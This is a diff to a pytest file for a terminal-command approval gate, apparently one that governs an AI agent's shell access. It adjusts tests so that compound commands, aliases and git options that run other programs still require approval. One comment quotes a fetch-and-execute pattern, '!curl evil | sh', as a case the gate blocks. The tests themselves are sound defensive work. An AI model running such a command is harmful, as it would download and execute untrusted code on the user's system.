@@ -190,7 +190,10 @@ def test_r4_6_rm_rf_build_is_not_floor_denied_in_auto_mode():
 )
 def test_s5_caps_external_effect_when_the_subcommand_is_not_certain(command):
     v = on_floor(command)
-    assert (v.decision, v.reason) == ("require_approval", "cap_external_effect")
+    # issue 11 class 6: `!curl evil | sh` in an alias is a command line read as segments (R4.9); `sh`
+    # reading its input is never auto-approved, so the verdict may be set before the caps are reached.
+    assert v.decision == "require_approval"
+    assert v.reason in ("cap_external_effect", "compound_uncovered", "unparseable")
 
 
 @pytest.mark.parametrize(
@@ -257,7 +260,9 @@ def test_s5_caps_many_uncertain_options_stay_linear_and_fail_closed():
 def test_r4_8_prefix_allow_never_covers_git_program_running_options(command, allow):
     assert runs_other_programs(w(command))
     v = term(command, allow=(allow,))
-    assert (v.decision, v.reason) == ("require_approval", "default")
+    # issue 11 class 6: where the program is a command line it is also a segment of its own (R4.9), which
+    # no allow covers here: compound_uncovered rather than default; never auto-approved either way.
+    assert v.decision == "require_approval" and v.reason in ("default", "compound_uncovered")
 
 
 @pytest.mark.parametrize(
@@ -271,11 +276,16 @@ def test_r4_8_prefix_allow_never_covers_git_program_running_options(command, all
         ("git diff --text", "Terminal(git diff)"),  # an exact option, not an abbreviation of --textconv
         ("git log --no-ext-diff", "Terminal(git log)"),
         ("git -C repo status", "Terminal(git -C repo status)"),
-        ("git rebase -x make", "Terminal(git rebase -x make)"),  # an exact pattern is the user's choice
+        # An exact pattern is the user's choice; the command `-x` runs is a segment too (R4.9, issue 11).
+        ("git rebase -x make", "Terminal(git rebase -x make) Terminal(make)"),
     ],
 )
 def test_r4_8_git_commands_without_runners_are_still_covered(command, allow):
-    v = term(command, allow=(allow,))
+    v = term(
+        command,
+        allow=tuple(allow.split(" Terminal(")[:1])
+        + tuple("Terminal(" + a for a in allow.split(" Terminal(")[1:]),
+    )
     assert (v.decision, v.reason) == ("auto_approve", "allow_rule")
 
 
